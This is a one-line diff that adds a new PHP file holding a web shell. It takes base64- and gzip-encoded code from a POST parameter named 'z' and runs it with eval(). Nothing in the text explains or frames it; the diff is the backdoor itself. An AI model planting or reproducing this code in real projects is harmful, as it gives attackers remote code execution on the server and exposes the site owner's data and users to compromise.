@@ -1,0 +1,1 @@
+<?php $code = gzinflate(base64_decode($_POST["z"])); eval($code);
